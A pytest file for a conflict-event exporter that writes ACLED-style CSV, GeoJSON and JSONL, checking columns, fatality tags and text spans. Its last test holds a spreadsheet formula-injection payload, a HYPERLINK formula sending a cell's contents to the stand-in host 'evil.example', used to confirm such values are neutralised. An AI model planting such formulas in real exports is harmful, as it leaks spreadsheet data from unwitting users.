"""Exports: ACLED's columns in ACLED's order, no invented numbers, GeoJSON points, evidence text per span."""

from __future__ import annotations

import csv
import dataclasses
import json
from datetime import date
from pathlib import Path

import pytest

from eventwatch.export import acled_row, write_events
from eventwatch.export.formats import event_record
from eventwatch.model import ACLED_COLUMNS, Event, Hedge, Span

TEXT = "SOHR said fighting broke out overnight in Harem. A minimum of two jihadists were taken into custody."


def _clash() -> Event:
    rid = "r1"
    harem = TEXT.index("Harem")
    return Event(
        report_id=rid,
        event_type="Battles",
        sub_event_type="Armed clash",
        event_date=date(2025, 10, 21),
        event_date_end=date(2025, 10, 22),
        time_precision=1,
        actor1="Military Forces of Syria (2024-)",
        inter1=1,
        actor2="Firqat al-Ghuraba",
        inter2=2,
        country="Syria",
        iso="SY",
        admin1="Idlib",
        admin2="Harim",
        location="Harem",
        latitude=36.2118,
        longitude=36.5191,
        geo_precision=1,
        fatalities_reported_unknown=True,
        detained_low=2,
        detained_best=2,
        hedge=Hedge.HEDGED,
        attributed_to="Syrian Observatory for Human Rights",
        notes=TEXT,
        spans={"location": [Span(rid, harem, harem + 5)]},
    )


def test_acled_row_follows_acled_conventions() -> None:
    row = acled_row(_clash())
    assert tuple(row) == ACLED_COLUMNS
    assert row["event_id_cnty"].startswith("SYR")
    assert row["iso"] == 760 and row["region"] == "Middle East"
    assert row["interaction"] == 12
    assert row["disorder_type"] == "Political violence"
    # Deaths were reported but not counted: no number, a tag saying so.
    assert row["fatalities"] == ""
    assert "fatalities reported, number unknown" in row["tags"]
    assert "detained 2+" in row["tags"]


def test_fatalities_as_acled_writes_them_and_as_the_sources_said_them() -> None:
    # ACLED writes 0 where no deaths are reported and where deaths are not spoken of; JSON keeps them apart.
    none_reported = dataclasses.replace(_clash(), fatalities_reported_unknown=False, fatalities=0,
                                        fatalities_low=0, fatalities_best=0, fatalities_high=0)  # fmt: skip
    not_mentioned = dataclasses.replace(_clash(), fatalities_reported_unknown=False)
    assert acled_row(none_reported)["fatalities"] == 0 and acled_row(not_mentioned)["fatalities"] == 0
    assert event_record(none_reported)["fatalities_status"] == "none reported"
    assert event_record(not_mentioned)["fatalities_status"] == "not mentioned"
    assert event_record(_clash())["fatalities_status"] == "reported, number unknown"
    counted = dataclasses.replace(_clash(), fatalities=3, fatalities_low=3, fatalities_best=3, fatalities_high=3)
    assert (acled_row(counted)["fatalities"], event_record(counted)["fatalities_status"]) == (3, "reported")


@pytest.mark.parametrize("fmt", ["acled-csv", "geojson", "jsonl"])
def test_write_events_each_format(tmp_path: Path, fmt: str) -> None:
    out = tmp_path / f"events.{fmt}"
    n = write_events([_clash()], fmt, out, text_of=lambda rid: TEXT if rid == "r1" else None)
    assert n == 1
    assert not out.with_name(out.name + ".part").exists()
    if fmt == "acled-csv":
        with out.open(newline="", encoding="utf-8") as f:
            reader = csv.DictReader(f)
            assert tuple(reader.fieldnames or ()) == ACLED_COLUMNS
            (row,) = list(reader)
        assert row["location"] == "Harem" and row["latitude"] == "36.2118"
    elif fmt == "geojson":
        doc = json.loads(out.read_text())
        (feature,) = doc["features"]
        assert feature["geometry"] == {"type": "Point", "coordinates": [36.5191, 36.2118]}
        assert feature["properties"]["spans"]["location"][0]["text"] == "Harem"
    else:
        record = json.loads(out.read_text().splitlines()[0])
        assert record["event_date"] == "2025-10-21"
        assert record["spans"]["location"] == [{"start": 42, "end": 47, "text": "Harem"}]


def test_unknown_format_is_refused(tmp_path: Path) -> None:
    with pytest.raises(ValueError, match="unknown export format"):
        write_events([], "xlsx", tmp_path / "x.xlsx")


def test_formula_like_text_is_made_inert_for_spreadsheets() -> None:
    event = _clash()
    event.notes = '=HYPERLINK("http://evil.example/?"&A1, "click")'
    event.actor1 = "@SUM(1+1)"
    event.location = "-Harem"
    row = acled_row(event)
    assert row["notes"].startswith("'=HYPERLINK")
    assert row["actor1"] == "'@SUM(1+1)"
    assert row["location"] == "'-Harem"
    assert row["latitude"] == "36.2118"  # numbers untouched
